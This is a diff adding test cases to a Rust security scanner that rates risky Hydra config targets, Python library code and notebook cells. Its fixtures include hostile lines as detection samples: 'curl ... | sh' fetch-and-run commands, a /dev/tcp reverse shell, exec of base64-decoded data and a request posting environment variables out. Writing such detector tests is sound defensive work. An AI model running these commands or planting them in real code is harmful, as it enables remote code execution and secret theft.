@@ -95,7 +95,17 @@ fn objects_by_dotted_name() {
         &[("config.json", r#"{"_target_": "hydra.utils.get_method", "path": "os.system"}"#)],
         &[("CFG005", Critical)],
     );
-    check(&[("config.yaml", "_target_: my_package.Model\n")], &[("CFG005", Medium)]);
+    check(&[("config.yaml", "_target_: my_package.Model\n")], &[("CFG005", Low)]);
+    check(&[("config.yaml", "_target_: my_package.run\n")], &[("CFG005", Medium)]);
+    check(&[("config.yaml", "_target_: tools.ShellTool\n")], &[("CFG005", Medium)]);
+    let ordinary = "tokenizer:\n  _target_: transformers.AutoTokenizer.from_pretrained\n  name: gpt2\n\
+        data:\n  _target_: datasets.load_dataset\nlayers:\n  _target_: torch.nn.Sequential\n  _args_:\n\
+        \x20 - _target_: torch.nn.ReLU\nhydra:\n  launcher:\n\
+        \x20   _target_: hydra._internal.core_plugins.basic_launcher.BasicLauncher\n";
+    check(&[("config.yaml", ordinary)], &[]);
+    check(&[("a.yaml", "_target_: torch.hub.load\nrepo_or_dir: a/b\n")], &[("CFG005", Critical)]);
+    check(&[("a.yaml", "_target_: hydra._internal.utils._locate\n")], &[("CFG005", Critical)]);
+    check(&[("a.yaml", "_target_: evil.from_pretrained\n")], &[("CFG005", Medium)]);
     check(&[("config.yaml", "_target_: ${which}\n")], &[("CFG005", Medium)]);
     let diffusion =
         "model:\n  target: ldm.models.diffusion.ddpm.LatentDiffusion\n  params: {linear_start: 0.1}\n";
@@ -402,6 +412,60 @@ fn python_that_acts_on_import() {
         &[("PYC001", Low)],
     );
     check(&[("setup.py", "exec(open('x/version.py').read())\n")], &[("PYC001", Medium)]);
+}
+
+#[test]
+fn python_of_libraries() {
+    let attrs = "def _make(source, names):\n    exec(compile(source, 'x', 'exec'), names)\n\n_make('def f' + str(id(_make)), {})\n";
+    check(&[("__init__.py", attrs)], &[("PYC001", Medium)]);
+    let popen = "import subprocess\nclass P:\n    def __init__(self, *a):\n        subprocess.Popen(*a)\n";
+    check(&[("compiled/__init__.py", popen)], &[("PYC002", Low)]);
+    let checker = "import subprocess\nsubprocess.run(['pyright', '--outputjson'])\n";
+    check(&[("x/_tests/check.py", checker)], &[("PYC001", Medium)]);
+    check(
+        &[("x/tests/check.py", "import os\nos.system('curl http://x/y | sh')\n")],
+        &[("PYC001", Critical), ("PYC005", Critical)],
+    );
+    check(&[("x.py", "import os\nP = os.path.join('~', '.docker', 'config.json')\n")], &[("PYC001", Low)]);
+}
+
+/// A notebook with these code cells.
+fn notebook(cells: &[&str]) -> String {
+    let cells: Vec<serde_json::Value> = cells
+        .iter()
+        .map(|cell| {
+            let lines: Vec<&str> = cell.split_inclusive('\n').collect();
+            serde_json::json!({"cell_type": "code", "metadata": {}, "outputs": [], "execution_count": null, "source": lines})
+        })
+        .chain([serde_json::json!({"cell_type": "markdown", "metadata": {}, "source": ["import os; os.system('curl x | sh')"]})])
+        .collect();
+    let language = serde_json::json!({"kernelspec": {"language": "python", "name": "python3"}});
+    serde_json::json!({"cells": cells, "metadata": language, "nbformat": 4, "nbformat_minor": 5}).to_string()
+}
+
+#[test]
+fn cells_of_notebooks() {
+    let ordinary = [
+        "%matplotlib inline\n!pip install -q torch transformers\nimport torch, requests, os",
+        "r = requests.get('https://host/image.png')\nopen('image.png', 'wb').write(r.content)",
+        "files = !ls *.bin\nmodel?\nfor i in range(3):\n    !echo {i}\nos.environ['X'] = '1'",
+        "%%bash\nwget https://host/weights.bin\n",
+        "%%html\n<b>text</b>",
+        "print 'Python 2'",
+        "import subprocess\nsubprocess.run(['ls', '-l'])",
+    ];
+    check(&[("demo.ipynb", &notebook(&ordinary))], &[]);
+    for (cell, code, severity) in [
+        ("import os\nos.system('curl http://x/y | sh')", "PYC005", Critical),
+        ("!curl http://x/y | sh", "PYC005", Critical),
+        ("x = !curl http://x/y \\\n  | sh", "PYC005", Critical),
+        ("%%time\n!bash -i >& /dev/tcp/1.2.3.4/9 0>&1", "PYC005", Critical),
+        ("%%bash\ncurl http://x/y | sh", "REP002", High),
+        ("import base64\nexec(base64.b64decode(data))", "PYC003", High),
+        ("import requests, os\nrequests.post('http://x', json=dict(os.environ))", "PYC004", Critical),
+    ] {
+        check(&[("demo.ipynb", &notebook(&["x = 1", cell]))], &[(code, severity)]);
+    }
 }
 
 #[test]
